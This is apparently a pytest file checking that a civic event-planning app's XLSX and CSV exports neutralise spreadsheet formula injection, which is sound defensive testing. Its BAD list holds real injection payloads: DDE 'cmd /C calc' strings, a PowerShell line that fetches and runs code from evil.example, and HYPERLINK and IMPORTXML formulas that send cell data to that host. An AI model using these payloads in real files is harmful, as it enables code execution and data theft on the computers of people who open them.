"""Formula injection: text that a spreadsheet could run stays text in the workbook (a text cell, its value
unchanged) and gets OWASP's leading quote in the CSV files; nothing else is touched. The corpus goes through a
made-up table, and through every text field of the action plan and the council list as the domain stores it."""
from __future__ import annotations

import contextlib
import csv
import io
import zipfile

import openpyxl
import pytest
from sqlmodel import Session

from spcp.domain import action_plan, council
from spcp.domain.council import VolunteerDetails
from spcp.domain.errors import DomainError
from spcp.exports import registry
from spcp.exports.cells import risky
from spcp.exports.tables import BOOL, INT, TEXT, Column, ExportTables, table
from spcp.i18n import translator

BAD = [
    '=1+1', '+cmd', '-2', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0", "+cmd|' /C powershell IEX(wget evil.example/s)'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', '==1', '=', '+', '-', '@',
    '#N/A', '#REF!', '#DIV/0!', '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")', '=1+1\n=2+2',
]
HARMLESS = ['1+1', 'x=1', 'Ana @ the station', ' =starts with a space', '’=quote', 'مرحبا =1', 'नमस्ते', '🙂=1']


@pytest.fixture(scope='module')
def export() -> ExportTables:
    tr = translator('en')
    rows = [(text, i, i % 2 == 0) for i, text in enumerate(BAD + HARMLESS)]
    columns = (Column('text', 'Issue', TEXT), Column('n', 'Dots', INT), Column('flag', 'From paper', BOOL))
    return ExportTables('en', '=evil event', None, None, (), (), 0, 0, {'issues': table('issues', 'Issues', columns,
                                                                                         rows, tr)})


def rendered(export: ExportTables, fmt: str) -> bytes:
    out = io.BytesIO()
    registry.RENDERERS[fmt].render(export, out)
    return out.getvalue()


def test_xlsx_keeps_every_bad_text_as_a_text_cell(export) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(rendered(export, 'xlsx')))['Issues']
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == BAD + HARMLESS          # unchanged, one for one
    assert {c.data_type for c in cells} == {'s'}                # never 'f' (formula) nor 'e' (error)
    assert all(c.quotePrefix for c in cells[:len(BAD)] if c.value[0] in '=+-@\t\r')
    assert not any(c.quotePrefix for c in cells[len(BAD):])
    numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in numbers} == {'n'}


def test_xlsx_has_no_formula_anywhere(export) -> None:
    archive = zipfile.ZipFile(io.BytesIO(rendered(export, 'xlsx')))
    sheets = [name for name in archive.namelist() if name.startswith('xl/worksheets/')]
    assert sheets and not any(b'<f>' in archive.read(name) or b'<f ' in archive.read(name) for name in sheets)


def test_csv_quotes_what_could_run_and_nothing_else(export) -> None:
    archive = zipfile.ZipFile(io.BytesIO(rendered(export, 'csv')))
    text = archive.read('01-issues.csv').decode('utf-8-sig')
    rows = list(csv.reader(io.StringIO(text, newline='')))
    assert rows[0] == ['Issue', 'Dots', 'From paper']
    values = [r[0] for r in rows[1:]]
    assert values == ["'" + v if v[0] in '=+-@\t\r' else v for v in BAD] + HARMLESS
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(BAD + HARMLESS))]  # numbers untouched


PLAN_TEXTS = ('text', 'lead', 'partners', 'first_steps', 'resources', 'success_measure', 'notes')
PLAN_SHEET = {'text': 'Action', 'lead': 'Lead', 'partners': 'Partners', 'first_steps': 'First steps',
              'resources': 'Resources needed', 'success_measure': 'Measure of success', 'notes': 'Notes'}
COUNCIL_SHEET = {'name': 'Name', 'contact': 'Contact', 'affiliation': 'Group or organization',
                 'why': 'Why they would take part'}


def _typed_in(session, organizer, event_id: int) -> None:
    """The corpus typed into every text field of the action plan and the council, as the organizer's pages would
    (the domain trims and refuses as it does for anyone: a line break in a one-line field is refused)."""
    theme_id = action_plan.action_plan(session, organizer, event_id).suggestions[0].theme_id
    for bad in BAD + HARMLESS:
        item_id, _ = action_plan.add_item(session, organizer, event_id, theme_id, bad)
        for field in PLAN_TEXTS[1:]:
            with contextlib.suppress(DomainError):
                action_plan.edit_item(session, organizer, event_id, item_id, field, bad)
        with contextlib.suppress(DomainError):
            council.add_volunteer(session, organizer, event_id, VolunteerDetails(bad, bad, bad, bad))


def test_the_corpus_in_the_action_plan_and_the_council_stays_text(day_engine, organizer, day) -> None:
    with Session(day_engine) as session:
        _typed_in(session, organizer, day.event_id)
        plan = action_plan.action_plan(session, organizer, day.event_id)
        volunteers = council.council(session, organizer, day.event_id)
        made = {}
        for fmt in ('xlsx', 'csv'):
            out = io.BytesIO()
            registry.export(session, organizer, day.event_id, fmt, out)
            made[fmt] = out.getvalue()
    items = [i for p in plan.priorities for i in p.items]
    stored = {field: [getattr(i, field) for i in items] for field in PLAN_TEXTS}
    people = {field: [getattr(v, field) for v in volunteers] for field in COUNCIL_SHEET}
    assert sum(risky(v) for v in stored['lead']) >= 15 and sum(risky(v) for v in people['name']) >= 15  # reached

    book = openpyxl.load_workbook(io.BytesIO(made['xlsx']))
    for sheet, wanted, headers in ((book['Action plan'], stored, PLAN_SHEET),
                                   (book['Council volunteers'], people, COUNCIL_SHEET)):
        columns = {c.value: c.column for c in sheet[1]}
        for field, header in headers.items():
            cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=columns[header], max_col=columns[header])]
            assert [c.value for c in cells] == wanted[field], header   # unchanged, one for one
            assert all(c.data_type == 's' and c.quotePrefix == risky(c.value) for c in cells if c.value is not None)
    archive = zipfile.ZipFile(io.BytesIO(made['xlsx']))
    assert not any(b'<f>' in archive.read(n) or b'<f ' in archive.read(n) for n in archive.namelist()
                   if n.startswith('xl/worksheets/'))

    zipped = zipfile.ZipFile(io.BytesIO(made['csv']))
    for name, wanted, headers in (('05-action_plan.csv', stored, PLAN_SHEET),
                                  ('06-council.csv', people, COUNCIL_SHEET)):
        rows = list(csv.DictReader(io.StringIO(zipped.read(name).decode('utf-8-sig'), newline='')))
        for field, header in headers.items():
            assert [r[header] for r in rows] == [
                '' if v is None else f"'{v}" if risky(v) else v for v in wanted[field]], header
